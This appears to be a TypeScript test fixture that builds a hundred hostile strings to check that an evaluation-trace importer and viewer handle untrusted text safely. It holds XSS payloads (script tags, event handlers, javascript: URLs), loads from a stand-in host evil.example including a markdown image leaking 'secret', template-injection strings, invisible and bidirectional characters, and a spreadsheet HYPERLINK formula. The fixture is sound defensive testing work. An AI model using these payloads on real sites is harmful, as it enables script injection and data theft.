// A fixture: an evaluation whose texts all attempt an attack: markup, scripts, addresses, and invisible or
// bidirectional characters.

// The effect of an executed payload: it marks the page as compromised.
const ACT = "globalThis.pwned=1";
const HOST = "https://evil.example";

const EVENTS = ["onload", "onerror", "onclick", "onfocus", "onanimationstart", "ontoggle", "onpointerover"];
const ELEMENTS = [
  "img src=x",
  "svg",
  "body",
  "details open",
  "input autofocus",
  "video src=x",
  "marquee",
  "object",
];
const ADDRESSES = [
  `javascript:${ACT}`,
  `JaVaScRiPt:${ACT}`,
  `java\tscript:${ACT}`,
  ` javascript:${ACT}`,
  `data:text/html,<script>${ACT}</script>`,
  `vbscript:${ACT}`,
  `blob:${HOST}/1`,
  `//evil.example/a`,
];

/** A hundred texts. */
export const PAYLOADS: readonly string[] = [
  ...[ACT, `alert(1);${ACT}`].map((code) => `<script>${code}</script>`),
  `<script src=${HOST}/a.js></script>`,
  `</script><script>${ACT}</script>`,
  `--><script>${ACT}</script><!--`,
  `]]><script>${ACT}</script>`,
  `"><script>${ACT}</script>`,
  `'><img src=x onerror='${ACT}'>`,
  ...EVENTS.flatMap((event, at) =>
    ELEMENTS.slice(0, 5).map((element) => `<${element} ${event}=${ACT} id=x${at}>`),
  ),
  ...ADDRESSES.flatMap((address) => [address, `[click](${address})`, `<a href="${address}">x</a>`]),
  `<iframe src="javascript:${ACT}"></iframe>`,
  `<iframe srcdoc="<script>parent.${ACT}</script>"></iframe>`,
  `<object data=${HOST}/a.swf></object>`,
  `<embed src=${HOST}/a>`,
  `<base href=${HOST}/>`,
  `<meta http-equiv=refresh content="0;url=${HOST}">`,
  `<link rel=stylesheet href=${HOST}/a.css>`,
  `<style>*{background:url(${HOST}/css)}</style>`,
  `<style>@import '${HOST}/a.css';</style>`,
  `<div style="background:url(${HOST}/a)">x</div>`,
  `<form action=${HOST}><button>Go</button></form>`,
  `<math><mi xlink:href="javascript:${ACT}">x</mi></math>`,
  `<svg><use href="${HOST}/a.svg#x"/></svg>`,
  `<template><script>${ACT}</script></template>`,
  `![leak](${HOST}/leak.png?data=secret)`,
  `[ref]: ${HOST}/a "title"`,
  `<img srcset="${HOST}/a 1x">`,
  `{{constructor.constructor('${ACT}')()}}`,
  // biome-ignore lint/suspicious/noTemplateCurlyInString: this is what the payload is
  "${globalThis.pwned=1}",
  `#{${ACT}}`,
  `<%= ${ACT} %>`,
  "pay \u202Enothing\u202C \u200Bnow",
  "\u2066isolated\u2069 \uFEFF\u00AD",
  "\u0000\u0007\u001B[31mred\u001B[0m",
  "__proto__",
  "constructor",
  "toString",
  "a".repeat(1_000_000),
  `${"<b>".repeat(20_000)}`,
  "\u0301".repeat(5000),
  "😀".repeat(5000),
  '=HYPERLINK("https://evil.example")',
].slice(0, 100);

/** The evaluation as lines for an import. */
export function hostileLines(): string {
  const at = (second: number) => new Date(Date.parse("2026-01-01T00:00:00Z") + second * 1000).toISOString();
  const shared = { trace_id: "hostile", attributes: {}, summary: {} };
  const calls = ["one", "two"].flatMap((id, evaluation) => [
    {
      ...shared,
      id,
      parent_id: null,
      display_name: PAYLOADS[evaluation],
      op_name: "Evaluation.evaluate",
      started_at: at(1000 * evaluation),
      ended_at: at(1000 * evaluation + 500),
      inputs: { self: PAYLOADS[1], model: PAYLOADS[4] },
      output: null,
    },
    ...PAYLOADS.map((payload, row) => ({
      ...shared,
      id: `${id}-${row}`,
      parent_id: id,
      op_name: "Evaluation.predict_and_score",
      started_at: at(1000 * evaluation + row),
      ended_at: at(1000 * evaluation + row + 1),
      inputs: { example: { question: payload, "<b>key</b>": payload, n: row } },
      output: {
        output: evaluation === 0 ? payload : `${payload} changed`,
        scores: { "<img src=x onerror=pwned=1>": (row + evaluation) % 2 === 0, reason: payload },
      },
    })),
  ]);
  return calls.map((call) => JSON.stringify(call)).join("\n");
}
